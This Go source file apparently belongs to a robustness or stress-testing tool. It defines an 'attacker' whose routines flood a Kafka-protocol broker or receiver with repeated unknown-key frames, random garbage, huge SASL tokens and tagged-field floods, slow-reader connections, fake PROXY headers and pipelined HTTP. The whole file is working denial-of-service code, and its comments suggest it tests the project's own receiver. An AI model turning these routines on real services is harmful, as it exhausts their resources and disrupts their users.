package main

import (
	"bufio"
	"bytes"
	"encoding/binary"
	"fmt"
	"io"
	"math/rand"
	"net"
	"strings"
	"time"
)

const (
	unknownKey    = 999
	unknownBytes  = 256 << 10
	inFlight      = 16
	answersAsked  = 4
	answerEvery   = 200 * time.Millisecond
	answerAsked   = 1 << 20
	listOffsets   = 2
	metadataKey   = 3
	handshakeKey  = 17
	saslTokenKey  = 36
	httpPipelined = 16
	listOffsetsV3 = 12

	findCoordinator   = 10
	incrementalAlter  = 44
	clientMetricsType = 16
	tagsSent          = 500_000
	coordinatorsAsked = 16_000
	configsAltered    = 32_000
	trackedBytes      = 128 << 10
)

// repeated returns a chunk that is full of copies of a frame.
func repeated(frame []byte, size int) []byte {
	var chunk []byte
	for len(chunk)+len(frame) <= size {
		chunk = append(chunk, frame...)
	}
	return chunk
}

// pour sends a chunk again and again, and ignores the answers.
func (a *attacker) pour(connection net.Conn, chunk []byte) error {
	ended := make(chan error, 1)
	go func() { ended <- drain(connection) }()
	for {
		if _, err := connection.Write(chunk); err != nil {
			select {
			case ending := <-ended:
				return ending
			default:
				return err
			}
		}
	}
}

func poured(chunk []byte) kind {
	return func(a *attacker, connection net.Conn, _ int) error { return a.pour(connection, chunk) }
}

// unknownKeys ends its connection after the chunk is answered or refused; then it is opened again.
func (a *attacker) unknownKeys(connection net.Conn, _ int) error {
	frame := sealed(binary.BigEndian.AppendUint32([]byte{0, 0, 0, 0, unknownKey >> 8, unknownKey & 0xff, 0, 0}, 1))
	if _, err := connection.Write(repeated(frame, unknownBytes)); err != nil {
		return err
	}
	_, err := io.ReadFull(connection, make([]byte, 4))
	return err
}

// shortRequest returns a frame with a header v1 and an empty client id.
func shortRequest(key, version uint16) []byte {
	frame := binary.BigEndian.AppendUint16(make([]byte, 4), key)
	frame = binary.BigEndian.AppendUint16(frame, version)
	return sealed(append(frame, 0, 0, 0, 1, 0, 0))
}

var leastRequest = sealed([]byte{0, 0, 0, 0, 0, listOffsets, 0, 0, 0, 0, 0, 1})

// headersV3 uses the first version of ListOffsets whose header is v3 where all RPCs have it; see
// receiver/wire/header_versions.py.
func (a *attacker) headersV3(connection net.Conn, _ int) error {
	id := randomID()
	frame := append(shortRequest(listOffsets, listOffsetsV3), id[:]...)
	return a.pour(connection, repeated(sealed(append(frame, 0)), piece))
}

func (a *attacker) byteSegments(connection net.Conn, _ int) error {
	go drain(connection)
	for next := splitter(endlessRequests()); ; {
		if _, err := connection.Write(next(1)); err != nil {
			return err
		}
	}
}

// asked keeps copies of a request in flight.
func asked(request []byte) kind {
	return func(a *attacker, connection net.Conn, _ int) error {
		reader := bufio.NewReaderSize(connection, 64<<10)
		for i := 1; ; i++ {
			if _, err := connection.Write(request); err != nil {
				return err
			}
			if i < inFlight {
				continue
			}
			var length [4]byte
			if _, err := io.ReadFull(reader, length[:]); err != nil {
				return err
			}
			if _, err := io.CopyN(io.Discard, reader, int64(binary.BigEndian.Uint32(length[:]))); err != nil {
				return err
			}
		}
	}
}

func saslHandshake(mechanism string) []byte {
	frame := binary.BigEndian.AppendUint16(shortRequest(handshakeKey, 1), uint16(len(mechanism)))
	return sealed(append(frame, mechanism...))
}

func (a *attacker) saslTokens(connection net.Conn, _ int) error {
	token := []byte("\x00" + strings.Repeat("u", 16<<10) + "\x00" + strings.Repeat("p", 16<<10))
	frame := binary.BigEndian.AppendUint32(shortRequest(saslTokenKey, 1), uint32(len(token)))
	var buffer []byte
	for {
		for _, request := range [][]byte{saslHandshake("PLAIN"), sealed(append(frame, token...))} {
			answer, err := exchange(connection, request, buffer)
			if err != nil {
				return err
			}
			buffer = answer
		}
	}
}

func (a *attacker) garbage(connection net.Conn, _ int) error {
	chunk := make([]byte, piece)
	rand.Read(chunk)
	return a.pour(connection, chunk)
}

// slowReaders reads nothing, and has the smallest receive buffer. It sends slowly, so that the broker serves others too.
func (a *attacker) slowReaders(connection net.Conn, _ int) error {
	_ = connection.(lasting).Conn.(*net.TCPConn).SetReadBuffer(4 << 10)
	request, err := produceRequest(128, answerAsked)
	if err != nil {
		return err
	}
	for i := 0; i < answersAsked; i++ {
		if _, err := connection.Write(request); err != nil {
			return err
		}
		time.Sleep(answerEvery)
	}
	for probe := make([]byte, 1); ; { // a byte now and then shows that the target has ended the connection
		time.Sleep(time.Second)
		if !time.Now().Before(a.until) {
			return errOver
		}
		if _, err := connection.Read(probe); err != nil {
			return err
		}
	}
}

func (a *attacker) proxyHeaders(connection net.Conn, _ int) error {
	header := []byte("PROXY TCP4 10.0.0.1 10.0.0.2 12345 9092")
	for i := range header {
		if _, err := connection.Write(header[i : i+1]); err != nil {
			return err
		}
	}
	return a.pour(connection, []byte("\r\n\x00\x00"))
}

func (a *attacker) http(connection net.Conn, _ int) error {
	request := fmt.Sprintf("GET %s HTTP/1.1\r\nHost: %s\r\n\r\n", a.path, a.target)
	return a.pour(connection, []byte(strings.Repeat(request, httpPipelined)))
}

// singlePush ends its connection after one accepted push and a get of another client instance. So the instance that
// pushed is not the connection's last.
func (a *attacker) singlePush(connection net.Conn, _ int) error {
	if _, err := a.greet(connection); err != nil {
		return err
	}
	for correlation := uint32(3); correlation < 5; correlation++ {
		answer, err := exchange(connection, getRequest(correlation, randomID()), nil)
		if err != nil {
			return err
		}
		a.count(a.gets, answer)
		got, err := parseSubscription(answer)
		if err != nil || got.code != 0 || correlation == 4 {
			return io.EOF
		}
		request := pushRequest(correlation, got.instance, got.id, a.codec, a.payload)
		if answer, err = exchange(connection, request, nil); err != nil {
			return err
		}
		a.count(a.pushes, answer)
	}
	return io.EOF
}

// steadyPush is one client instance that pushes at its interval, so that no limit on new instances stops it.
func (a *attacker) steadyPush(connection net.Conn, _ int) error {
	if _, err := exchange(connection, apiVersionsRequest(1, "attack", softwareName, softwareVersion), nil); err != nil {
		return err
	}
	p := &pusher{payload: a.payload, codec: a.codec, counts: a.counts}
	if err := p.client(connection, a.until); err != nil {
		return err
	}
	return drain(connection) // the fake broker's filler is no subscription
}

// tagged appends empty tagged fields to a frame.
func tagged(frame []byte, count int) []byte {
	return append(binary.AppendUvarint(frame, uint64(count)), bytes.Repeat([]byte{1, 0}, count)...)
}

// bareAPIVersions returns an ApiVersions request v3 without its tagged fields.
func bareAPIVersions() []byte {
	return appendCompact(appendCompact(requestHeader(18, 3, 1, ""), softwareName), softwareVersion)
}

func (a *attacker) taggedTokens(connection net.Conn, _ int) error {
	if _, err := exchange(connection, saslHandshake("PLAIN"), nil); err != nil {
		return err
	}
	return a.pour(connection, sealed(tagged(appendCompact(requestHeader(saslTokenKey, 2, 1, ""), "t"), tagsSent)))
}

// alterConfigs returns a request that sets empty configs of one client metrics resource.
func alterConfigs(count int) []byte {
	frame := appendCompact(append(requestHeader(incrementalAlter, 1, 1, ""), 2, clientMetricsType), "attack")
	frame = binary.AppendUvarint(frame, uint64(count+1))
	// Each has an empty name, the operation SET, no value and no tagged fields.
	return sealed(append(append(frame, bytes.Repeat([]byte{1, 0, 0, 0}, count)...), 0, 0, 0))
}

// findCoordinators returns a request for keys of five bytes.
func findCoordinators(count int) []byte {
	frame := binary.AppendUvarint(append(requestHeader(findCoordinator, 4, 1, ""), 0), uint64(count+1))
	for i := 0; i < count; i++ {
		frame = appendCompact(frame, fmt.Sprintf("%05d", i))
	}
	return sealed(append(frame, 0))
}

// smallProduce returns a Produce request v11 without topics. It asks for the smallest valid response.
func smallProduce() []byte {
	frame := requestHeader(0, 11, 1, fmt.Sprintf("%s%08d", answerPrefix, 15))
	return sealed(append(frame, 0, 0xff, 0xff))
}

func (a *attacker) trackedClosed(connection net.Conn, _ int) error {
	if _, err := connection.Write(repeated(smallProduce(), trackedBytes)); err != nil {
		return err
	}
	_ = connection.(lasting).Conn.(*net.TCPConn).CloseWrite()
	return io.EOF
}
